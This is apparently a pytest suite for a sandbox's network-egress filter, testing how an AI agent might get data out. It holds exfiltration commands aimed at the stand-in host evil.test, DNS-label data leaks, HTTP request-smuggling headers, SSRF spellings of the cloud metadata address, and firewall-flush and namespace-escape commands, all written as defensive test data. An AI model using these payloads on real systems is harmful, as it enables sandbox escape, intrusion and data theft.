# SPDX-License-Identifier: MIT
"""INV-NETWORK-DENY: attempts to get out by the network. Each has a control that does get through."""
import contextlib
import os
import socket
import struct
import threading

import agent
import egress
import harness
import origin as upstream
import pytest

SECRET = "sk-" + os.urandom(20).hex()


@pytest.fixture
def place(user_place):
    """Root's runs go the same way outside the sandbox; test_egress.py takes it as both."""
    return user_place


def need_root():
    if not harness.IS_ROOT:
        pytest.skip("needs root: to capture packets, or to change what the host resolves")


def assert_untouched(*origins):
    for made in origins:
        assert not made.connections, made.received()


@pytest.fixture
def evil(certificates):
    """Where nothing may go; it has a certificate all the same."""
    made = upstream.Origin(context=certificates.context("hosts"))
    made.ca = str(certificates.ca)
    yield made
    made.close()


def status_of(wire, data):
    """The status of the reply, or None when the connection ends instead."""
    try:
        wire.send(data)
        head = b""
        while b"\r\n\r\n" not in head:
            piece = wire.more()
            if not piece:
                return None
            head += piece
    except ConnectionError:
        return None
    return int(head.split(b" ")[1])


# ---- around the capture ----

TRY_TCP = """
import socket
result = []
for address, port in {targets!r}:
    try:
        sock = socket.create_connection((address, port), 5)
        sock.settimeout(5)
        sock.sendall(b"GET / HTTP/1.1\\r\\nHost: x.test\\r\\n\\r\\n")
        result.append(sock.recv(100).decode("latin-1"))
    except OSError as error:
        result.append(type(error).__name__)
"""


def host_addresses():
    """Addresses of this machine that are not loopback."""
    found = []
    for family, target in ((socket.AF_INET, "192.0.2.1"), (socket.AF_INET6, "2001:db8::1")):
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as sock:
            sock.connect((target, 9))
            found.append(sock.getsockname()[0])
    return found


def test_no_listener_of_the_host_is_reached(place, https):
    """By loopback, by the host's own addresses, of both families; a listener notes who came."""
    came = []
    listeners = []
    for address in ["127.0.0.1", "::1", *host_addresses()]:
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        listener = socket.create_server((address, 0), family=family)
        listener.settimeout(0.2)
        listeners.append((address, listener))
    targets = [(address, listener.getsockname()[1]) for address, listener in listeners]
    with agent.run(place, *egress.allowed(https)) as run:
        got = run.python(TRY_TCP.format(targets=targets))
    for _, listener in listeners:
        with contextlib.suppress(TimeoutError):
            came.append(listener.accept())
    assert not came
    assert not [answer for answer in got if " 200 " in answer], got
    # Control: from outside they are reached.
    for target in targets:
        socket.create_connection(target, 5).close()
    for _, listener in listeners:
        listener.accept()[0].close()
        listener.close()


def test_addresses_and_ports_without_a_rule_are_refused(place, https):
    targets = [("93.184.216.34", 80), ("93.184.216.34", 12345), ("2606:2800:220:1::1", 80), ("10.0.0.1", 80),
               ("169.254.169.254", 80), ("fd00:ec2::254", 80), ("224.0.0.1", 80), ("0.0.0.1", 80),
               ("198.18.0.1", 80), ("198.19.255.254", 80), ("255.255.255.255", 80), ("fe80::1", 80)]
    with agent.run(place, *egress.allowed(https)) as run:
        for (address, port), got in zip(targets, run.python(TRY_TCP.format(targets=targets))):
            assert " 403 " in got or " 421 " in got or not got.startswith("HTTP"), (address, port, got)
        assert egress.ask(run).status == 200  # control
    assert len(https.connections) == 1


TRY_UDP = """
import socket, time
result = []
for address, port in {targets!r}:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    start = time.monotonic()
    try:
        sock = socket.socket(family, socket.SOCK_DGRAM)
        sock.settimeout(30)
        sock.connect((address, port))
        sock.send(b"x" * 100)
        result.append(sock.recv(100).decode("latin-1"))
    except OSError as error:
        result.append([type(error).__name__, time.monotonic() - start])
"""


def test_udp_is_rejected_at_once(place, https):
    """QUIC, so that it falls back without waiting, and whatever else there is."""
    targets = [("93.184.216.34", 443), ("2606:2800:220:1::1", 443), ("93.184.216.34", 123), ("198.18.0.2", 443),
               ("198.18.0.1", 5353), ("10.0.0.1", 51820)]
    with agent.run(place, *egress.allowed(https)) as run:
        run.python("import socket; socket.getaddrinfo('api.test', 443)")
        for target, got in zip(targets, run.python(TRY_UDP.format(targets=targets))):
            assert isinstance(got, list) and got[0] != "TimeoutError" and got[1] < 20, (target, got)
        # Control: the agent's own loopback.
        assert run.python("""
import socket
server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
server.bind(("127.0.0.1", 0))
client = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
client.sendto(b"mine", server.getsockname())
result = server.recv(10).decode()
""") == "mine"


@pytest.mark.parametrize("kind", [
    "AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP", "AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP",
    "AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6", "AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6",
    "AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW", "AF_PACKET, socket.SOCK_RAW, 0x0300",
    "AF_INET, socket.SOCK_STREAM, 132", "AF_VSOCK, socket.SOCK_STREAM, 0"])
def test_other_protocols_get_nowhere(place, https, kind):
    with agent.run(place, *egress.allowed(https)) as run:
        got = run.python(f"""
import socket
try:
    sock = socket.socket(socket.{kind})
    sock.settimeout(1)
    address = ("2606:2800:220:1::1", 0) if sock.family == socket.AF_INET6 else ("93.184.216.34", 0)
    if sock.family == socket.AF_VSOCK: address = (2, 22)
    if sock.family == socket.AF_PACKET: address = ("lo", 0x800)
    sock.connect(address) if sock.type == socket.SOCK_STREAM else sock.sendto(bytes([8, 0, 0, 0, 0, 0, 0, 0] * 8), address)
    result = "answer " + str(sock.recv(1000))
except OSError as error:
    result = type(error).__name__
""")
        assert not got.startswith("answer"), got


def test_the_agent_cannot_change_the_capture(place, https):
    """Neither rules nor routes nor links, nor from a namespace of its own."""
    code = """
ip link add it type dummy && echo link
ip route add 10.1.0.0/16 dev lo && echo route
nft flush ruleset && echo rules
unshare -Urn ip link add it type dummy && echo namespace
nsenter -t 1 -n true && echo nsenter
ls /sys/class/net
"""
    done = egress.bash(place, f"{{ {code} }} 2>/dev/null", egress.allowed(https))
    words = done.stdout.split()
    assert not {"link", "route", "rules", "namespace", "nsenter"} & set(words), done.stdout
    # Whatever was tried, what is allowed still works and what is not is still refused.
    done = egress.bash(place, f"{{ {code} }} >/dev/null 2>&1; curl -s https://api.test/; curl -s https://evil.test/",
                       egress.allowed(https))
    assert '{"ok":true}' in done.stdout and "host_not_allowed" in done.stdout


# ---- names that carry data ----

class Capture:
    """Every packet of every interface of the host."""

    def __init__(self):
        self.socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.socket.settimeout(0.1)
        self._packets = []
        self._is_over = False
        self._thread = threading.Thread(target=self._read, daemon=True)
        self._thread.start()

    def _read(self):
        while not self._is_over:
            with contextlib.suppress(TimeoutError):
                self._packets.append(self.socket.recv(65536).lower())

    def has(self, text):
        return any(text in packet for packet in self._packets)

    def close(self):
        self._is_over = True
        self._thread.join()
        self.socket.close()


def test_names_carry_nothing_out(place, https):
    """Data in labels, by the resolver and past it: no packet on any interface of the host."""
    need_root()
    marker = os.urandom(12).hex()
    capture = Capture()
    done = egress.bash(place, f"""
for i in 1 2 3 4 5; do
    getent ahosts {marker}-$i.evil.test
    dig +tries=1 +time=1 {marker}-$i.evil.test TXT
    dig +tries=1 +time=1 +tcp {marker}-$i.api.test
    for server in 8.8.8.8 1.1.1.1 127.0.0.53 2001:4860:4860::8888 {' '.join(host_addresses())}; do
        dig +tries=1 +time=1 @$server {marker}-$i.evil.test
    done
done
curl -s --max-time 2 -d {marker} https://{marker}.evil.test/
curl -s --max-time 2 -d {marker} http://93.184.216.34/{marker}
python3 -c '
import socket
for address in ("93.184.216.34", "8.8.8.8", "224.0.0.251"):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for port in (53, 443, 5353):
        try: sock.sendto(b"{marker}", (address, port))
        except OSError as error: pass
'
echo done
""", egress.allowed(https))
    assert done.stdout.endswith("done\n"), done
    assert_seen_from_outside(place, capture)
    capture.close()
    assert not capture.has(marker.encode())


def assert_seen_from_outside(place, capture):
    """The control: the same from outside the sandbox is captured, so what came before it was, too."""
    marker = os.urandom(12).hex()
    place.host(["dig", "+tries=1", "+time=1", "-p", "9", "@127.0.0.1", f"{marker}.evil.test"])
    agent.checks.wait_until(lambda: capture.has(marker.encode()))


def test_a_refused_request_opens_no_connection_and_asks_for_no_name(place, https):
    need_root()
    marker = os.urandom(12).hex()
    capture = Capture()
    with agent.run(place, *egress.allowed(https)) as run:
        reply = egress.ask(run, egress.request(host=f"{marker}.evil.test"), f"{marker}.evil.test")
        egress.assert_refused(reply, 403, "host_not_allowed")
    assert_seen_from_outside(place, capture)
    capture.close()
    assert not capture.has(marker.encode())


# ---- who is meant ----

def both(https, evil):
    return (*egress.allowed(https), *egress.mapped(evil, "evil.test"))


@pytest.mark.parametrize("connected, sni, host", [
    ("api.test", "api.test", "evil.test"), ("api.test", "evil.test", "api.test"),
    ("api.test", "evil.test", "evil.test"), ("evil.test", "api.test", "api.test"),
    ("evil.test", "evil.test", "api.test"), ("evil.test", "api.test", "evil.test"),
    ("api.test", "api.test", "api.test:80"), ("api.test", "api.test", "api.test:8443"),
    ("api.test", None, "evil.test"), ("93.184.216.34", "api.test", "evil.test"),
    ("93.184.216.34", "evil.test", "api.test"),
])
@pytest.mark.parametrize("way", ["captured", "connect", "socks"])
def test_names_that_disagree(place, https, evil, way, connected, sni, host):
    """Domain fronting, whichever of the three names is the other one."""
    with agent.run(place, *both(https, evil)) as run:
        wire = open_way(run, way, connected)
        wire.tls(sni)
        reply = wire.ask(egress.request(host=host))
        assert reply.status in (403, 421), reply.head
        assert reply.code() in ("authority_mismatch", "host_not_allowed")
        # Control: when they agree it works.
        wire = open_way(run, way, "api.test")
        wire.tls("api.test")
        assert wire.ask(egress.request()).status == 200
    assert_untouched(evil)
    assert len(https.requests) == 1


def open_way(run, way, host, port=443):
    if way == "captured":
        return run.connect(host, port)
    wire = run.connect("127.0.0.1", egress.PROXY)
    if way == "connect":
        wire.send(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
        assert wire.head().status == 200
    else:
        name = host.encode()
        wire.send(b"\x05\x01\x00")
        assert wire.exactly(2) == b"\x05\x00"
        wire.send(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + struct.pack(">H", port))
        assert wire.exactly(10)[1] == 0
    return wire


def test_a_second_request_is_judged_like_the_first(place, https, evil):
    with agent.run(place, *both(https, evil)) as run:
        wire = egress.connect(run)
        assert wire.ask(egress.request()).status == 200
        egress.assert_refused(wire.ask(egress.request(host="evil.test")), 421, "authority_mismatch")
        # The same sent ahead, without waiting.
        wire = egress.connect(run)
        wire.send(egress.request() + egress.request(host="evil.test") + egress.request(target="/third"))
        assert wire.reply().status == 200
        egress.assert_refused(wire.reply(), 421, "authority_mismatch")
    assert_untouched(evil)
    assert "/third" not in [r.target for r in https.requests]


def test_a_second_request_to_a_proxy_is_judged_like_the_first(place, origin):
    other = upstream.Origin()
    options = (*egress.allowed(origin, host="plain.test", port=80), *egress.mapped(other, "evil.test", 80))
    with agent.run(place, *options) as run:
        wire = run.connect("127.0.0.1", egress.PROXY)
        assert wire.ask(egress.request("GET", "http://plain.test/", host="plain.test")).status == 200
        reply = wire.ask(egress.request("GET", "http://evil.test/", host="evil.test"))
        egress.assert_refused(reply, 403, "host_not_allowed")
        assert wire.ask(egress.request("GET", "http://plain.test/", host="plain.test")).status == 200
    assert_untouched(other)
    other.close()


@pytest.mark.parametrize("target, host", [
    ("https://evil.test/", "api.test"), ("http://evil.test/", "api.test"), ("https://evil.test/", "evil.test"),
    ("https://api.test@evil.test/", "api.test"), ("https://api.test/", "evil.test"), ("//evil.test/", "api.test"),
    ("evil.test:443", "api.test"), ("*", "api.test"), ("http://api.test/", "api.test:80")])
def test_an_absolute_target_within_tls(place, https, evil, target, host):
    with agent.run(place, *both(https, evil)) as run:
        reply = egress.ask(run, egress.request("GET", target, host=host))
        if target == "//evil.test/":
            assert reply.status in (200, 400)  # a path, whatever it looks like
        else:
            assert reply.status >= 400, reply.head
    assert_untouched(evil)
    for request in https.requests:
        assert request.values("host") == ["api.test"] and request.target == target


@pytest.mark.parametrize("name", ["API.TEST", "api.test.", "Api.Test.", "aPI.test:443"])
def test_one_name_is_one_name_however_it_is_written(place, https, evil, name):
    options = (*both(https, evil), "--allow-net", "*.wild.test", "--deny-net", "bad.wild.test",
               *egress.mapped(evil, "bad.wild.test"))
    with agent.run(place, *options) as run:
        bare = name.removesuffix(":443")
        wire = run.connect(bare, 443)
        wire.tls(bare.rstrip("."))
        assert wire.ask(egress.request(host=name)).status == 200
        bad = name.replace("api", "bad.wild").replace("API", "BAD.WILD").replace("Api", "Bad.Wild").replace(
            "aPI", "bAD.wILD")
        wire = run.connect(bad.removesuffix(":443"), 443)
        wire.tls(bad.removesuffix(":443").rstrip("."))
        egress.assert_refused(wire.ask(egress.request(host=bad)), 403, "denied")
    assert https.requests[0].values("host") == ["api.test"]
    assert_untouched(evil)


BAD_HOSTS = [
    "api.test\0.evil.test", "api.test\0", "evil.test\0api.test", "api.test evil.test", "api.test,evil.test",
    "evil.test#api.test", "evil.test/api.test", "evil.test?api.test", "user@api.test", "api.test@evil.test",
    "evil.test\\api.test", "api.test:443:443", "api.test:", "api.test:0", "api.test:443evil", "api.test:+443",
    "api.test:65979", "api.test..", ".api.test", "api..test", "", "\xe4pi.test", "api%2etest", "[api.test]", "[::1",
    "api.test\tevil.test", "a" * 300 + ".test", "api.test;evil", "$api.test", "*.api.test", "api_test"]


@pytest.mark.parametrize("host", BAD_HOSTS, ids=lambda h: ascii(h)[:40])
def test_a_host_that_can_be_read_in_two_ways_is_refused(place, https, host):
    with agent.run(place, *egress.allowed(https)) as run:
        refusals = (400, 403, 421, 505)
        assert status_of(egress.connect(run), egress.request(host=host)) in refusals
        proxy = run.connect("127.0.0.1", egress.PROXY)
        data = f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n".encode("latin-1")
        assert status_of(proxy, data) in refusals
        proxy = run.connect("127.0.0.1", egress.PROXY)
        data = f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n".encode("latin-1")
        status = status_of(proxy, data)
        if status == 200:  # a name, though not an allowed one
            proxy.tls("api.test")
            status = status_of(proxy, egress.request())
        assert status in refusals
    assert_untouched(https)


def test_two_hosts_are_none(place, https, evil):
    with agent.run(place, *both(https, evil)) as run:
        for lines in (("Host: evil.test",), ("host: api.test",), ("HOST:api.test", "Host: evil.test")):
            assert egress.ask(run, egress.request("GET", "/", *lines)).status == 400
        wire = egress.connect(run)
        assert wire.ask(b"GET / HTTP/1.1\r\n\r\n").status == 400
    assert_untouched(https, evil)


# ---- framing ----

SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: api.test\r\n\r\n"
TWO_WAYS = {
    "both": b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
    "two lengths": b"Content-Length: 0\r\nContent-Length: 5\r\n",
    "listed lengths": b"Content-Length: 0, 5\r\n",
    "signed": b"Content-Length: +5\r\n",
    "not chunked": b"Transfer-Encoding: xchunked\r\n",
    "chunked twice": b"Transfer-Encoding: chunked, chunked\r\n",
    "chunked, identity": b"Transfer-Encoding: chunked, identity\r\n",
    "two encodings": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    "space before the colon": b"Transfer-Encoding : chunked\r\n",
    "tab": b"Transfer-Encoding:\x0bchunked\r\n",
    "folded": b"X: 1\r\n Transfer-Encoding: chunked\r\n",
    "bare LF": b"X: 1\nTransfer-Encoding: chunked\r\n",
    "bare CR": b"X: 1\rTransfer-Encoding: chunked\r\n",
    "NUL": b"X: 1\0\r\n",
    "hidden by Connection": b"Connection: close, host\r\nContent-Length: x\r\n",
    "h2c": b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\nContent-Length: -1\r\n",
}


@pytest.mark.parametrize("case", TWO_WAYS)
def test_a_request_that_can_be_read_in_two_ways_is_refused(place, https, case):
    with agent.run(place, *egress.allowed(https)) as run:
        wire = egress.connect(run)
        wire.send(b"POST /first HTTP/1.1\r\nHost: api.test\r\n" + TWO_WAYS[case] + b"\r\n0\r\n\r\n" + SMUGGLED)
        assert wire.reply().status in (400, 501)
    assert not https.requests


def test_a_protocol_is_not_switched(place, https):
    """No bytes get past the parser by an upgrade, even of an origin that plays along."""

    def script(connection):
        connection.head()
        connection.send(b"HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\nraw")
        connection.wait_for_end()

    https.script = script
    with agent.run(place, *egress.allowed(https)) as run:
        reply = egress.ask(run, egress.request("GET", "/", "Connection: Upgrade", "Upgrade: x"))
        assert reply.status not in (101, 200)


# ---- not HTTP ----

@pytest.mark.parametrize("data", [b"\x00\x01\x02\x03", b"SSH-2.0-x\r\n", b"EHLO x\r\n", b"\xff" * 100,
                                  b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"])
@pytest.mark.parametrize("is_tls", [True, False])
def test_bytes_that_are_not_http_go_nowhere(place, https, is_tls, data):
    with agent.run(place, *egress.allowed(https), *egress.mapped(https, port=80)) as run:
        wire = run.connect("api.test", 443)
        if is_tls:
            wire.tls("api.test")
        wire.send(data + b"\r\n\r\n")
        with contextlib.suppress(ConnectionError):
            got = wire.rest()
            assert not got or int(got.split(b" ")[1]) >= 400, got
    assert not https.requests and b"SSH" not in https.received()


def test_a_protocol_that_we_do_not_speak_is_not_agreed_on(place, https):
    with agent.run(place, *egress.allowed(https)) as run:
        for alpn in (["smtp"], ["ssh", "x"], ["\x00"]):
            wire = run.connect("api.test", 443)
            with pytest.raises(ConnectionError):
                wire.tls("api.test", None, alpn)
        wire = run.connect("api.test", 443)
        assert wire.tls("api.test", None, ["x", "http/1.1"])[1] == "http/1.1"  # control


def test_a_host_for_http_is_no_tunnel_and_a_tunnel_no_other_port(place, origin, https):
    options = (*egress.allowed(https), "--allow-net", "tcp://db.test:5432",
               *egress.mapped(origin, "db.test", 5432), *egress.mapped(origin, "db.test", 5433))
    with agent.run(place, *options) as run:
        wire = run.connect("db.test", 5433)
        wire.send(b"\x00raw")
        with pytest.raises(ConnectionError):
            wire.rest()
        assert_untouched(origin)
        wire = run.connect("db.test", 5432)
        wire.send(b"\x00raw")
        agent.checks.wait_until(lambda: b"\x00raw" in origin.received())  # control
        wire.close()


# ---- limits ----

@pytest.mark.parametrize("make, statuses", [
    (lambda n: egress.request("GET", "/", "X: " + "a" * n), (431, )),
    (lambda n: egress.request("GET", "/" + "a" * n), (414, 431)),
    (lambda n: egress.request("GET", "/", *[f"X-{i}: 1" for i in range(n // 400)]), (431, )),
    (lambda n: egress.request("A" * n), (400, 414, 431, 501)),
    (lambda n: egress.request("GET", "/", "A" * n + ": 1"), (431, )),
], ids=["field", "target", "fields", "method", "name"])
def test_a_head_that_is_too_large(place, https, make, statuses):
    with agent.run(place, *egress.allowed(https)) as run:
        wire = egress.connect(run)
        with contextlib.suppress(ConnectionError):
            wire.send(make(70000))
        assert wire.reply().status in statuses
        if make(5).startswith(b"GET"):
            assert egress.ask(run, make(5)).status == 200  # control
    assert len(https.requests) <= 1


def test_heads_without_end_cost_nothing(place, https):
    with agent.run(place, *egress.allowed(https)) as run:
        for first in (b"", b"GET / HTTP/1.1\r\nHost: api.test\r\nX: "):
            wire = egress.connect(run)
            got = b""
            with contextlib.suppress(ConnectionError):
                wire.send(first)
                for _ in range(40):
                    wire.send(b"a" * 65536)
                got = wire.more()
            assert not got or int(got.split(b" ")[1]) >= 400
        assert egress.ask(run).status == 200


@pytest.mark.parametrize("size", [16000, 70000, 200000])
def test_a_hello_without_end(place, https, size):
    """A record of a handshake whose ClientHello claims to be that large, and never ends."""
    with agent.run(place, *egress.allowed(https)) as run:
        wire = run.connect("api.test", 443)
        hello = b"\x01" + size.to_bytes(3, "big") + b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x02\x13\x01\x01\x00"
        hello += bytes(size - len(hello))
        with contextlib.suppress(ConnectionError):
            for at in range(0, len(hello), 16000):
                piece = hello[at:at + 16000]
                wire.send(b"\x16\x03\x01" + struct.pack(">H", len(piece)) + piece)
            if size > 65536:  # more than anyone waits for
                wire.rest()
        assert egress.ask(run).status == 200


# ---- what a name leads to ----

class Names:
    """A DNS server of the host's, whose answers a test says."""

    def __init__(self, place):
        need_root()
        self.answers = {}
        self.asked = []
        self.address = f"127.{os.getpid() % 200 + 10}.{os.urandom(1)[0]}.{os.urandom(1)[0] % 250 + 1}"
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((self.address, 53))
        self.socket.settimeout(0.1)
        self._is_over = False
        resolv = place.write("resolv.conf", f"nameserver {self.address}\n")
        hosts = place.write("hosts", "127.0.0.1 localhost\n")
        # The host's files, as this run's host side sees them.
        self.prefix = ["unshare", "-m", "sh", "-c",
                       f'mount --bind {resolv} "$(readlink -f /etc/resolv.conf)" && mount --bind {hosts} /etc/hosts '
                       '&& exec "$@"', "sh"]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._is_over:
            with contextlib.suppress(TimeoutError):
                query, sender = self.socket.recvfrom(4096)
                self.socket.sendto(self._reply(query), sender)

    def _reply(self, query):
        labels, at = [], 12
        while query[at]:
            labels.append(query[at + 1:at + 1 + query[at]].decode())
            at += 1 + query[at]
        name, kind = ".".join(labels).lower(), struct.unpack(">H", query[at + 1:at + 3])[0]
        self.asked.append((name, kind))
        found = self.answers.get(name, [])
        found = found(kind) if callable(found) else found
        packed = [(1, socket.inet_aton(a)) if ":" not in a else (28, socket.inet_pton(socket.AF_INET6, a))
                  for a in found]
        records = b"".join(b"\xc0\x0c" + struct.pack(">HHIH", k, 1, 0, len(data)) + data
                           for k, data in packed if k == kind)
        count = len([1 for k, _ in packed if k == kind])
        return query[:2] + b"\x81\x80" + struct.pack(">HHHH", 1, count, 0, 0) + query[12:at + 5] + records

    def close(self):
        self._is_over = True
        self._thread.join()
        self.socket.close()


@pytest.fixture
def names(place):
    made = Names(place)
    yield made
    made.close()


@pytest.fixture
def victim():
    """A service of the host's that trusts whoever comes from loopback: on all addresses."""
    made = upstream.Origin()
    yield made
    made.close()


INTERNAL = ["127.0.0.1", "127.1.2.3", "0.0.0.0", "10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.169.254",
            "100.100.100.200", "224.0.0.1", "255.255.255.255", "198.18.0.1", "::1", "::", "::ffff:127.0.0.1",
            "::ffff:169.254.169.254", "::127.0.0.1", "64:ff9b::a9fe:a9fe", "fe80::1", "fd00:ec2::254", "fc00::1",
            "2002:7f00:1::", "ff02::1"]


@pytest.mark.parametrize("address", INTERNAL)
def test_a_name_that_leads_inside_is_refused(place, names, victim, address):
    names.answers["rebind.test"] = [address]
    options = ("--allow-net", f"rebind.test:{victim.port}", "--allow-net", "mapped.test:80",
               *egress.mapped(victim, "mapped.test", 80))
    with agent.run(place, *options, prefix=names.prefix) as run:
        wire = run.connect("rebind.test", victim.port)
        reply = wire.ask(egress.request(host=f"rebind.test:{victim.port}"))
        egress.assert_refused(reply, 403, "address_not_allowed")
        assert_untouched(victim)
        assert "rebind.test" in [name for name, _ in names.asked]
        # Control: where the operator has mapped it, it is reached.
        wire = run.connect("mapped.test", 80)
        assert wire.ask(egress.request(host="mapped.test")).status == 200


def test_a_tunnel_to_a_name_that_leads_inside_is_refused(place, names, victim):
    names.answers["rebind.test"] = ["127.0.0.1"]
    with agent.run(place, "--allow-net", f"tcp://rebind.test:{victim.port}", prefix=names.prefix) as run:
        with pytest.raises(ConnectionError):
            wire = run.connect("rebind.test", victim.port)
            wire.send(b"hello")
            wire.rest()
        agent.checks.wait_until(lambda: "address_not_allowed" in str(run.records()))
    assert_untouched(victim)


SPELLINGS = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376",
             "169.254.43518", "169.16689662", "169.254.169.254.", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]",
             "[64:ff9b::a9fe:a9fe]", "[::a9fe:a9fe]", "[fd00:ec2::254]", "[fe80::a9fe:a9fe%25lo]", "00169.254.169.254",
             "169.254.169.254\u3002".encode().decode("latin-1"), "metadata.google.internal", "metadata"]


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("rule", ["*.test", None])
def test_the_metadata_address_in_every_spelling(place, spelling, rule):
    """Not even where the operator allows that very spelling: it would have to be mapped."""
    rule = rule or spelling
    place.install()
    if place.run("true", options=("-q", "--allow-net", rule)).returncode == 125:
        return  # no such rule can be made
    with agent.run(place, "--allow-net", rule) as run:
        for data in (f"GET http://{spelling}/latest/meta-data/ HTTP/1.1\r\nHost: {spelling}\r\n\r\n",
                     f"CONNECT {spelling}:80 HTTP/1.1\r\nHost: {spelling}:80\r\n\r\n"):
            wire = run.connect("127.0.0.1", egress.PROXY)
            wire.send(data.encode("latin-1"))
            reply = wire.reply(has_body=data.startswith("GET"))
            if reply.status == 200 and data.startswith("CONNECT"):
                reply = wire.ask(f"GET / HTTP/1.1\r\nHost: {spelling}\r\n\r\n".encode("latin-1"))
            assert reply.status in (400, 403, 421, 502), reply.head
            if reply.status == 502:
                assert reply.code() == "upstream_unresolved", reply.body


# As the C library and curl read them, before anything is connected to.
AS_ADDRESS = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0xa9.0xfe.0xa9.0xfe", "0251.0376.0251.0376", "169.254.43518",
              "169.16689662", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]"]


@pytest.mark.parametrize("spelling", AS_ADDRESS)
def test_the_metadata_address_is_connected_to(place, origin, spelling):
    """Whatever it is called, it is one address, which a rule alone does not open."""
    line = f"curl -sS -g -H 'Host: 169.254.169.254' 'http://{spelling}/latest/meta-data/'"
    for rules in ((), ("--allow-net", "169.254.169.254")):
        done = egress.bash(place, line, ("--allow-net", "api.test", *rules))
        assert ("address_not_allowed" if rules else "host_not_allowed") in done.stdout, done
    assert_untouched(origin)
    # Control: where the operator has mapped it, every spelling gets there.
    done = egress.bash(place, line, ("--allow-net", "169.254.169.254", *egress.mapped(origin, "169.254.169.254", 80)))
    assert done.stdout == '{"ok":true}' and origin.requests[0].target == "/latest/meta-data/", done


@pytest.mark.parametrize("name", [b"api.test\0", b"api.test\0.evil.test", b"evil.test\0.api.test", b"\0api.test"])
def test_a_nul_in_a_name_of_socks_and_of_tls(place, https, name):
    with agent.run(place, *egress.allowed(https)) as run:
        wire = run.connect("127.0.0.1", egress.PROXY)
        wire.send(b"\x05\x01\x00")
        assert wire.exactly(2) == b"\x05\x00"
        wire.send(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x01\xbb")
        assert wire.exactly(10)[1] != 0
        for connected in ("api.test", "93.184.216.34"):
            wire = run.connect(connected, 443)
            wire.send(egress.hello(name))
            with pytest.raises(ConnectionError):
                assert wire.rest()[:1] == b"\x15"  # or an alert
                raise ConnectionError
        # Control: without it, a handshake begins and the proxy connects.
        wire = run.connect("api.test", 443)
        wire.send(egress.hello(b"api.test"))
        assert wire.exactly(1) == b"\x15"  # this hello offers too little for more than an alert
        open_way(run, "socks", "api.test")
        assert egress.ask(run).status == 200
    assert len(https.requests) == 1


@pytest.mark.parametrize("label", [b"api.test\0x", b"api\0", b"\0"])
def test_a_nul_in_a_name_that_is_asked_for(place, https, label):
    query = b"\x12\x34\x01\x00\x00\x01" + bytes(6) + b"%s\x04test\x00\x00\x01\x00\x01"
    with agent.run(place, *egress.allowed(https)) as run:
        replies = [bytes(run.python(f"""
import socket
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.settimeout(5)
sock.sendto({query % (bytes([len(name)]) + name)!r}, ("198.18.0.1", 53))
result = list(sock.recv(600))
""")) for name in (label, b"api")]
    # NXDOMAIN without an answer; the control has one.
    assert [(reply[3] & 15, reply[7]) for reply in replies] == [(3, 0), (0, 1)]


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::1]", "0.0.0.0", "[::]", "[::ffff:127.0.0.1]", "2130706433",
                                  "0x7f.1", "127.1", "localhost.", "LOCALHOST", "foo.localhost"])
@pytest.mark.parametrize("way", ["absolute", "connect", "socks"])
def test_the_proxy_leads_to_no_listener_of_the_host(place, https, victim, way, host):
    with agent.run(place, *egress.allowed(https)) as run:
        port = victim.port
        wire = run.connect("127.0.0.1", egress.PROXY)
        request = egress.request(host=f"{host}:{port}")
        status = 200
        if way == "absolute":
            request = egress.request("GET", f"http://{host}:{port}/", host=f"{host}:{port}")
        elif way == "connect":
            status = status_of(wire, f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
        else:
            name = host.strip("[]").encode()
            wire.send(b"\x05\x01\x00")
            assert wire.exactly(2) == b"\x05\x00"
            wire.send(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + struct.pack(">H", port))
            status = 200 if wire.exactly(10)[1] == 0 else 403
        if status == 200:
            status = status_of(wire, request)
        assert status in (400, 403, 421)
    assert_untouched(victim)


# ---- redirects ----

def test_a_redirect_is_judged_again(place, https, evil):
    def script(connection):
        for request in connection.requests():
            if request.target == "/there":
                connection.answer(b"there")
            else:
                there = "https://api.test/there" if request.target == "/here" else "https://evil.test/"
                connection.send(f"HTTP/1.1 302 Found\r\nLocation: {there}\r\nContent-Length: 0\r\n\r\n".encode())

    https.script = script
    done = egress.bash(place, "curl -sSL https://api.test/here; curl -sSL https://api.test/away", both(https, evil))
    assert done.stdout.startswith("there"), done  # control
    assert "host_not_allowed" in done.stdout and "--allow-net evil.test" in done.stdout
    assert_untouched(evil)


